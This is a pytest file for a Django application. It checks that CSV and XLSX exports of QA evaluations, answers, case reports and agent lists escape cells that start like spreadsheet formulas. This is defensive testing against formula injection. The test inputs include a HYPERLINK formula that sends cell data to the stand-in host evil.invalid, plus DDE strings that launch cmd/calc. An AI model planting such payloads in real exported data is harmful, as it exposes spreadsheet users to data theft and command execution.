"""Exports are safe to open in a spreadsheet: a text cell that starts like a formula is escaped
in CSV and XLSX, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from core.exports import escape_dataset, safe_cell
from qa.services import evaluations as ev
from tests.qa.factories import all_yes, make_call

PAYLOAD = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value", [PAYLOAD, "+27 82 123 4567", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Thabo", "", " =1", "a=b", 5, -3, 2.5, None, True])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_escape_dataset_keeps_headers_title_and_numbers():
    data = tablib.Dataset(["=1", -4], ["ok", 2.5], headers=["name", "score"], title="t")
    safe = escape_dataset(data)
    assert safe.headers == ["name", "score"] and safe.title == "t"
    assert list(safe) == [("'=1", -4), ("ok", 2.5)]


def _xlsx_values(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def _no_live_formula(response, fmt):
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    else:
        cells = _xlsx_values(response.content)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    texts = [c for c in cells if isinstance(c, str)]
    assert not [c for c in texts if c.startswith(("=", "+", "-", "@"))], texts
    return texts


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["evaluations", "answers"])
def test_qa_exports_escape_an_agent_name_and_an_answer_comment(
    client, agent_user, qa_officer_user, qa_manager_user, fmt, what
):
    agent_user.first_name = PAYLOAD
    agent_user.save()
    evaluation = ev.evaluation_start(actor=qa_officer_user, call=make_call(agent_user))
    answers = all_yes(evaluation.version)
    answers["empathy"]["comment"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    ev.evaluation_save(actor=qa_officer_user, evaluation=evaluation, answers=answers)
    ev.evaluation_submit(actor=qa_officer_user, evaluation=evaluation)
    client.force_login(qa_manager_user)
    response = client.get(reverse("qa:export", args=[what, fmt]))
    texts = _no_live_formula(response, fmt)
    if what == "evaluations":
        assert any(t.startswith("'=HYPERLINK") for t in texts)
    else:
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_case_export_escapes_a_source_reference(client, make_case, supervisor_user, fmt):
    make_case(source_reference=PAYLOAD[:80])
    client.force_login(supervisor_user)
    response = client.get(reverse("casereports:reports_export", args=[fmt]))
    texts = _no_live_formula(response, fmt)
    assert any(t.startswith("'=HYPERLINK") for t in texts)


@pytest.mark.django_db
def test_the_agents_download_escapes_names(client, agent_user, admin_user):
    agent_user.last_name = "=cmd|' /C calc'!A0"
    agent_user.save()
    client.force_login(admin_user)
    response = client.get(reverse("org:people_export", args=["agents"]))
    assert response.status_code == 200
    _no_live_formula(response, "csv")
